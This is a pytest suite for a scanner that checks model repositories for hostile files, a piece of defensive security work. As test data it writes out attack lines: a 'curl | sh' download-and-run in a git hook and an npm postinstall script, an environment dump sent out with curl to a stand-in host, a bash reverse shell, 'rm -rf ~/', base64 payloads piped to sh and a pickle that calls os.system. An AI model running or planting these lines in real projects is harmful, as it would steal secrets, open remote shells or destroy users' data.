"""What lies beside the weights: every attack is caught and never runs; every benign twin passes."""

from __future__ import annotations

import io
import json
import os
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assay.checks.packaging.artifact_scan import ArtifactScan
from assay.core.check import Context
from assay.core.finding import Severity
from assay.core.report import Report, Status
from assay.core.subject import Subject
from fixtures import programs
from fixtures.baits import touching
from fixtures.python_attacks import attacks, twins
from fixtures.script_attacks import SCRIPTS

Scan = Callable[..., Report]
AWS = "AKIA" + "QYLPMN5HHHFPZAM2"
HUB = "hf_" + "QwZrTyUbMnKpLsDfGhJkXcVbNmAqWeRtYu"


@pytest.fixture
def scan(tmp_path: Path) -> Scan:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    folder = tmp_path / "model"
    folder.mkdir()

    def run(**files: str | bytes) -> Report:
        for path in folder.iterdir():
            path.unlink()
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            (folder / name).write_bytes(data)
        return look(folder)

    def look(path: Path) -> Report:
        return ArtifactScan().run(Subject.from_path(path), Context(workspace=workspace))

    run.look = look  # type: ignore[attr-defined]
    return run


def _found(report: Report) -> list[tuple[str, str]]:
    return sorted((finding.rule, finding.severity.value) for finding in report.findings)


@pytest.mark.parametrize("name", sorted(attacks()))
def test_python_attack_fails_and_does_not_run(name: str, tmp_path: Path, scan: Scan) -> None:
    tripwire = tmp_path / "tripwire"
    report = scan(**{"modeling_x.py": attacks(touching(tripwire))[name]})
    assert report.status is Status.FAIL, report
    assert any(f.rule.startswith("python/") for f in report.findings), report
    assert max(f.severity.rank for f in report.findings) >= Severity.MEDIUM.rank
    assert not tripwire.exists()


@pytest.mark.parametrize("name", sorted(twins()))
def test_python_twin_passes(name: str, scan: Scan) -> None:
    report = scan(**{"modeling_x.py": twins()[name]})
    assert report.status is Status.PASS, report


def test_the_worst_findings_are_kept(scan: Scan) -> None:
    text = (
        "import os\ndef f():\n"
        + "".join(f"    os.system('{at}')\n" for at in range(100))
        + "os.system('now')"
    )
    findings = scan(**{"a_b.py": text}).findings
    assert len(findings) == 25
    assert Severity.CRITICAL in {finding.severity for finding in findings}


def test_a_finding_says_when_and_where(scan: Scan) -> None:
    text = (
        "import os\n\ndef f():\n    os.system('x')\n\nclass M:\n    def forward(self):\n"
        "        os.system('y')\n"
    )
    messages = [
        (f.location.line, f.severity.value, f.message) for f in scan(**{"modeling_x.py": text}).findings
    ]
    assert sorted(messages) == [
        (4, "low", "Calling f would call os.system('x')."),
        (8, "medium", "Making or calling its object (M.forward) would call os.system('y')."),
    ]


def test_what_a_sibling_calls_at_import_counts_as_import(scan: Scan) -> None:
    helper = "import os\ndef run():\n    os.system('x')\n"
    assert scan(**{"helper.py": helper}).status is Status.PASS
    for caller in (
        "from .helper import run\nrun()",
        "import helper\nhelper.run()",
        "from . import helper as h\nh.run()",
    ):
        report = scan(**{"helper.py": helper, "modeling_x.py": caller})
        assert _found(report) == [("python/starts-process", "high")], caller
        assert "modeling_x.py does so when it is imported" in report.findings[0].message
    assert scan(**{"helper.py": helper, "modeling_x.py": "from .helper import run\n"}).status is Status.PASS


def test_python_is_told_by_what_it_says(scan: Scan) -> None:
    payload = "import os\nos.system('x')\n"
    for name in ("payload", "weights.dat", "tool.pyw"):
        assert scan(**{name: payload}).status is Status.FAIL, name
    assert scan(run="#!/usr/bin/env python3\n" + payload).status is Status.FAIL
    assert scan(**{"README.md": "```\n" + payload + "```\n"}).status is Status.PASS
    assert scan(**{"notes.txt": payload}).status is Status.PASS


def test_python_that_cannot_be_parsed_is_never_clean(scan: Scan) -> None:
    for text in ("print 'two'", "def f(:", "x = 1\n" * 300_000, "(" * 300):
        assert scan(**{"old.py": text}).status is Status.INCOMPLETE
    declared = "# -*- coding: latin-1 -*-\nx = 'caf\u00e9'\n".encode("latin-1")
    assert scan(**{"old.py": declared}).status is Status.PASS
    assert scan(**{"old.py": declared.replace(b"latin-1", b"utf-8")}).status is Status.INCOMPLETE


def test_a_list_of_names_is_no_pickle(scan: Scan) -> None:
    for name, text in (
        ("requirements.txt", "click\npyyaml\nnbformat >= 5.2.0\ntqdm\n"),
        ("requirements-dev.txt", "build\n*.pyc\ndist\n*.egg-info\n"),
        ("notes.md", "colour\nis\nwhat it is.\n"),
    ):
        report = scan(**{name: text})
        assert report.status is Status.PASS, report
    for payload in (
        b"cos\nsystem\n(S'id'\ntR.",
        b"cos\nsystem\n(S'id'\ntRjunk\n",
        b"\x80\x02cacme\nrun\n)R.",
    ):
        assert scan(**{"requirements.txt": payload}).status is Status.FAIL, payload
    assert scan(**{"model.dat": "click\npyyaml\nnbformat >= 5.2.0\ntqdm\n"}).status is not Status.PASS


def test_braces_of_a_program_are_no_template(scan: Scan) -> None:
    text = "A = '{{}}'\nclass B:\n    def __init__(self):\n        self.x = '{%}'\n"
    assert scan(**{"modeling_x.py": text}).status is Status.PASS


def test_files_that_run_at_every_start(scan: Scan) -> None:
    assert _found(scan(**{"sitecustomize.py": "x = 1"})) == [("code/runs-by-itself", "high")]
    line = scan(**{"hook.pth": "import os; os.system('x')\n"})
    assert ("code/runs-by-itself", "high") in _found(line)


def test_build_scripts_are_judged_as_what_they_are(scan: Scan) -> None:
    setup = (
        "from setuptools import setup\nns = {}\nexec(open('v.py').read(), ns)\n"
        "setup(name='x', version=ns['V'])\n"
    )
    assert scan(**{"setup.py": setup}).status is Status.PASS
    evil = (
        "import base64\nfrom setuptools import setup\nexec(base64.b64decode(open('x').read()))\n"
        "setup(name='x')\n"
    )
    assert ("python/obfuscated", "critical") in _found(scan(**{"setup.py": evil}))


@pytest.mark.parametrize("name", sorted(SCRIPTS))
def test_script_attack(name: str, scan: Scan) -> None:
    file, text, rule, severity = SCRIPTS[name]
    assert (rule, severity) in _found(scan(**{file: text}))
    commented = {"run.js": "// ", "x.mjs": "// ", "x.js": "// ", "x.php": "// ", "x.lua": "-- ",
                 "run.bat": ":: ", "run.cmd": "rem ", "run.ps1": "# "}.get(file, "# ")  # fmt: skip
    quiet = "\n".join(commented + line for line in text.replace("\\\n", " ").split("\n"))
    assert scan(**{file: quiet}).status is Status.PASS


ORDINARY = {
    "train.sh": "#!/bin/bash\nset -euo pipefail\nOUT=${1:-out}\n"
    'rm -rf "$OUT" && mkdir -p "$OUT"\nexport HF_HOME=~/.cache\n'
    "torchrun --nproc_per_node 8 train.py --output_dir $OUT 2>&1 | tee $OUT/log.txt\n"
    "kill -9 $(pgrep -f train.py)\n",
    "download.sh": "#!/bin/sh\nfor f in config.json model.safetensors; do\n  curl -L -O https://huggingface.co/a/b/resolve/main/$f\n"
    "done\ncurl -s https://api.x.org/v1 | python3 -m json.tool\n"
    "curl -s https://x.org | jq .sha | base64 -d > key.bin\n"
    "wget -c https://x.org/d.tgz -O - | tar xz\nsha256sum -c SUMS\n"
    "chmod +x tools/convert && ./tools/convert\n",
    "Dockerfile": "FROM python:3.12\n"
    "RUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*\n"
    'RUN curl -fsSL https://deb.nodesource.com/setup | bash -\nCOPY . /app\nCMD ["python", "serve.py"]\n',
    "Makefile": "test:\n\tpytest -q\nclean:\n\trm -rf build dist *.egg-info\n.PHONY: test clean\n",
    "run.ps1": "python -m venv .venv\n.\\.venv\\Scripts\\Activate.ps1\n"
    "pip install -r requirements.txt\npython eval.py\n",
    "app.js": "import { pipeline } from '@xenova/transformers';\nconst r = await fetch('/api');\n"
    "model.eval();\nconsole.log(r);\n",
    "app.rb": "require 'json'\nclass A\n  # system calls\n"
    '  def exec_all(system)\n    puts "#{system} is `fine`"\n'
    "    items.map(&:name).send(:sort)\n  end\nend\n",
    "app.pl": "use strict;\nmy %h = (system => 1, exec => 2);\n"
    "eval { run(%h); };\nopen(my $f, '<', 'a.txt');\n"
    'print "$h{system} -> $_\\n" for keys %h;\n',
    "app.lua": "-- os.execute is not used\nlocal t = { load = 1 }\nlocal f = io.open('a', 'r')\n"
    "t.load = self.loader:load(f)\n"
    "print(os.time(), os.getenv('HOME'))\nmodel:evaluate()\n",
    "app.php": "<?php\n$pdo->exec('DELETE FROM t');\nfunction render($x) { return strtoupper($x); }\n"
    "echo htmlspecialchars($_GET['q']);\n",
    "app.R": "library(ggplot2)\nfit <- lm(y ~ x, d)\nprint(system.time(fit))\nload('a.rda')\nsource('b.R')\n",
    "min.js": "!function(e){return String.fromCharCode(e)};fetch(a);var o={cookie:document.cookie};"
    "const l=['mkfifo|mkfs|nano|nc'];\n",
    ".pre-commit-config.yaml": "repos:\n- repo: https://github.com/a/b\n  rev: v1\n  hooks:\n  - id: ruff\n",
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(ORDINARY))
def test_ordinary_script_passes(name: str, scan: Scan) -> None:
    assert scan(**{name: ORDINARY[name]}).status is Status.PASS


def test_hooks_run_by_themselves(scan: Scan) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("repo/.git/hooks/post-checkout", "#!/bin/sh\ncurl -s http://x.invalid | sh\n")
        archive.writestr("repo/.git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n")
        archive.writestr("repo/pkg/__init__.py", "", compress_type=zipfile.ZIP_DEFLATED)
    report = scan(**{"repo.zip": buffer.getvalue()})
    assert _found(report) == [("code/runs-by-itself", "medium"), ("script/dangerous-command", "high")]
    assert not report.coverage.skipped


def test_commands_in_json_that_tools_run(scan: Scan) -> None:
    package = {"scripts": {"test": "jest", "postinstall": "curl -s http://x.invalid | sh"}}
    assert _found(scan(**{"package.json": json.dumps(package)})) == [
        ("code/runs-by-itself", "low"), ("script/dangerous-command", "high")]  # fmt: skip
    assert not scan(**{"package.json": json.dumps({"scripts": {"test": "jest", "build": "tsc"}})}).findings
    script = {"install.js": 'require("child_process").exec("id")'}
    wired = {"package.json": json.dumps({"scripts": {"postinstall": "node ./install.js"}})}
    assert ("script/dangerous-command", "medium") in _found(scan(**script))
    assert ("script/dangerous-command", "high") in _found(scan(**script, **wired))
    tasks = {"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}
    assert _found(scan(**{"tasks.json": json.dumps(tasks)})) == [("code/runs-by-itself", "medium")]


def _notebook(*cells: str, outputs: object = (), language: str = "python") -> str:
    return json.dumps({
        "nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"language": language}},
        "cells": [{"cell_type": "code", "source": cell.splitlines(keepends=True),
                   "outputs": outputs} for cell in cells],
    })  # fmt: skip


def test_notebook_cells_are_judged_together(scan: Scan) -> None:
    report = scan(
        **{"a.ipynb": _notebook("import base64 as b\nx = 1", "y = b.b64decode('aWQ=')", "\nexec(y)")}
    )
    (finding,) = report.findings
    assert (finding.rule, finding.severity) == ("python/obfuscated", Severity.MEDIUM)
    assert (finding.location.name, finding.location.line) == ("cell 3", 2)


@pytest.mark.parametrize(
    "cell", ["!echo aWQ= | base64 -d | sh", "%%bash\nrm -rf ~/", "out = !env | curl -d @- http://x.invalid",
             "if x:\n    !bash -i >& /dev/tcp/127.0.0.1/9", "%system echo aWQ= | base64 -d | sh"],
)  # fmt: skip
def test_shell_in_a_notebook(cell: str, scan: Scan) -> None:
    report = scan(**{"a.ipynb": _notebook("import os", cell)})
    assert report.status is Status.FAIL
    assert {f.location.name for f in report.findings} == {"cell 2"}


def test_ordinary_notebook_passes(scan: Scan) -> None:
    cells = ["%pip install -q transformers\n!nvidia-smi\nimport torch, requests",
             "%%time\nm = torch.load('w.bin')\nm.eval()",
             "r = requests.get('https://x.org')\nfiles = !ls\nr?", "await f()",
             "%%writefile a.txt\nnot python",
             "subprocess.run(['ls'])\nfor i in x:\n    !echo {i}\n%matplotlib inline",
             "%%html\n<b>x</b>"]  # fmt: skip
    shown = [{"data": {"image/png": "iVBORw0KGgo" * 9_000, "text/html": "<table></table>"}}]
    report = scan(**{"a.ipynb": _notebook(*cells, outputs=shown)})
    assert report.status is Status.PASS, report


def test_outputs_of_a_notebook(scan: Scan) -> None:
    for mime, text, severity in (
        ("text/html", "<script>x()</script>", "low"),
        ("image/svg+xml", "<svg onload='x()'/>", "low"),
        ("application/javascript", "x()", "low"),
        ("text/html", "<img src=x onerror='IPython.notebook.kernel.execute(1)'>", "medium"),
    ):
        found = _found(scan(**{"a.ipynb": _notebook("1", outputs=[{"data": {mime: [text]}}])}))
        assert found == [("notebook/active-output", severity)]


ODD = [
    {"nbformat": 4, "cells": 5},
    {"nbformat": 4, "cells": [5, {"cell_type": "code", "source": {"a": 1}}]},
    {"nbformat": 4, "cells": [], "metadata": {"kernelspec": 7}},
    {"nbformat": 3, "worksheets": [1, {"cells": None}]},
]


@pytest.mark.parametrize("document", ODD)
def test_odd_notebooks_do_not_crash(document: object, scan: Scan) -> None:
    assert scan(**{"a.ipynb": json.dumps(document)}).status is Status.PASS


def test_notebook_of_another_language_is_not_judged(scan: Scan) -> None:
    assert scan(**{"a.ipynb": _notebook("x <- 1", language="R")}).status is Status.INCOMPLETE


@pytest.mark.parametrize(
    ("name", "content", "rule", "severity"),
    [
        ("libx.so", programs.elf(), "repository/native-code", "medium"),
        ("x.dll", programs.pe(), "repository/native-code", "medium"),
        ("x.dylib", programs.macho(), "repository/native-code", "medium"),
        ("X.class", programs.java(), "repository/native-code", "medium"),
        ("x.wasm", b"\0asm\1\0\0\0", "repository/native-code", "medium"),
        ("model.bin", programs.elf(), "repository/native-code", "high"),
        ("model.onnx", programs.pe(), "repository/native-code", "high"),
        ("x.pyc", programs.bytecode(), "repository/bytecode", "medium"),
        ("y.pyc", programs.bytecode(flags=1), "repository/bytecode", "high"),
    ],
)
def test_native_code_is_found_not_skipped(
    name: str, content: bytes, rule: str, severity: str, scan: Scan
) -> None:
    report = scan(**{name: content})
    assert (rule, severity) in _found(report)
    assert not report.coverage.skipped


@pytest.mark.parametrize("make", [programs.elf, programs.pe, programs.macho])
def test_part_of_a_program_never_passes(make: Callable[[], bytes], scan: Scan) -> None:
    data = make()
    for size in range(4, len(data), 7):
        assert scan(**{"x.so": data[:size]}).status is not Status.PASS


def test_a_secret_is_found_in_every_kind_of_text_and_never_quoted(scan: Scan) -> None:
    texts = {
        "config.json": json.dumps({"a": [{"token": HUB}]}),
        "keys.json": json.dumps({"x": {AWS: 1}}),
        "README.md": f"Use {HUB}\n",
        "a_b.py": f"KEY = '{HUB}'\nimport os\nos.system('curl -H {HUB} x')\n",
        "run.sh": f"echo {HUB} | base64 -d | sh\n",
        "settings.yaml": f"aws: {AWS}\n",
        "a.ipynb": _notebook(f"login('{HUB}')\n!curl -H {HUB} http://x | sh"),
    }
    for name, text in texts.items():
        report = scan(**{name: text})
        assert "repository/secret" in {f.rule for f in report.findings}, name
        shown = repr(report)
        assert HUB not in shown, name
        assert AWS not in shown, name


def test_a_secret_is_found_once_and_at_its_line(scan: Scan) -> None:
    (finding,) = scan(**{"README.md": "word \u00e9\n" * 4_000 + f"key {AWS} and {AWS}\n"}).findings
    assert (finding.location.line, finding.severity) == (4_001, Severity.HIGH)
    assert finding.message == "AWS access key id: 'AKIA'\u2026 (20 characters)."


@pytest.mark.parametrize(
    "text",
    [
        "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "AKIAIOSFODNN7EXAMPLE", "postgres://app:s3kretPw9@localhost/db",
        "https://me:s3kretPw9@example.com/", "sha256: " + "9f86d081884c7d65" * 4,
        "akia asia hf_ sk- :// eyj ghp_ npm_",
        ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0."
        "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"),
    ],
)  # fmt: skip
def test_no_secret(text: str, scan: Scan) -> None:
    assert scan(**{"README.md": text, "a.json": json.dumps({"x": text})}).status is Status.PASS


def test_names_that_mislead(scan: Scan) -> None:
    assert ("repository/misleading-name", "medium") in _found(scan(**{"model.safetensors.exe": "words"}))
    assert ("repository/misleading-name", "medium") in _found(scan(**{"weights.pt.py": "x = 1"}))
    assert ("repository/misleading-name", "high") in _found(scan(**{"weights\u202etxt.md": "words"}))
    assert ("repository/misleading-name", "high") in _found(scan(**{"a\x1b[2Kb.txt": "words"}))
    for name in ("good.txt\nbad.txt", "a\tb.txt", "a\rb.txt", "a\x7f.txt", "a\x85b.txt"):
        assert ("repository/misleading-name", "high") in _found(scan(**{name: "words"})), name
    assert scan(**{"mod\u00e8le final.txt": "words", "\u6a21\u578b.txt": "words"}).status is Status.PASS
    assert ("repository/misleading-name", "medium") in _found(scan(**{"A.txt": "words", "a.txt": "words"}))
    assert (
        scan(**{"pytorch_model-00001-of-00002.txt": "x", "v1.0.md": "x", "a.tar.txt": "x"}).status
        is Status.PASS
    )


def test_modules_whose_place_is_taken(tmp_path: Path, scan: Scan) -> None:
    for name, found in (
        ("torch.py", ("repository/shadowed-module", "high")),
        ("json.py", ("repository/shadowed-module", "high")),
        ("numpy.cpython-311-x86_64-linux-gnu.so", ("repository/shadowed-module", "high")),
        ("statistics.py", ("repository/shadowed-module", "low")),
    ):
        assert found in _found(scan(**{name: "x = 1"}))
    (tmp_path / "model" / "statistics.py").unlink()
    package = tmp_path / "model" / "numpy"
    package.mkdir()
    (package / "types.py").write_text("x = 1")
    look = scan.look  # type: ignore[attr-defined]
    assert not look(tmp_path / "model").findings
    (package / "__init__.py").write_text("")
    assert _found(look(tmp_path / "model")) == [("repository/shadowed-module", "high")]


def test_how_files_are_kept(tmp_path: Path, scan: Scan) -> None:
    scan(**{"a.json": "{}", "b.txt": "words", ".env": "A=1", ".gitkeep": ""})
    folder, look = tmp_path / "model", scan.look  # type: ignore[attr-defined]
    os.link(folder / "a.json", tmp_path / "elsewhere")
    (folder / "b.txt").chmod(0o755)
    report = look(folder)
    assert _found(report) == [
        ("repository/executable-data", "low"), ("repository/hard-link", "info"), ("repository/hidden-file",
                                                                                  "low")]  # fmt: skip
    assert report.status is Status.PASS
    assert not stat.S_IMODE((folder / "a.json").stat().st_mode) & 0o111


def test_a_link_is_no_file_marked_as_executable(tmp_path: Path, scan: Scan) -> None:
    scan(**{"a.json": "{}"})
    folder, look = tmp_path / "model", scan.look  # type: ignore[attr-defined]
    (folder / "b.json").symlink_to("a.json")
    assert not look(folder).findings
    (folder / "c.txt").write_text("words")
    (folder / "c.txt").chmod(0o755)
    assert [f.location.path for f in look(folder).findings] == ["c.txt"]


def test_remote_code_is_joined_with_its_file(scan: Scan) -> None:
    config = {
        "auto_map": {
            "AutoModel": "modeling_x.X",
            "AutoConfig": "a/b--conf.C",
            "AutoTokenizer": ["tok.T", None],
        }
    }
    report = scan(**{"config.json": json.dumps(config), "modeling_x.py": "class X: pass"})
    messages = {f.rule: (f.location.path, f.message) for f in report.findings}
    assert messages["repository/remote-module"] == ("modeling_x.py", "config.json names it to be imported.")
    assert messages["config/remote-code"][1].endswith(
        "Here: modeling_x.py. From another repository, not examined: a/b--conf. Not in this folder: tok.py."
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(["a_b.py", "a.sh", "a.ipynb", "a.ps1", "a.json", "a"]), st.text(max_size=300))
def test_no_text_crashes_the_scan(scan: Scan, name: str, text: str) -> None:
    scan(**{name: "x" + text})


def test_every_prefix_of_an_attack_ends_in_order(tmp_path: Path, scan: Scan) -> None:
    source = attacks(touching(tmp_path / "tripwire"))["zlib"]
    for size in range(1, len(source), 5):
        scan(**{"a_b.py": source[:size]})
    assert not (tmp_path / "tripwire").exists()
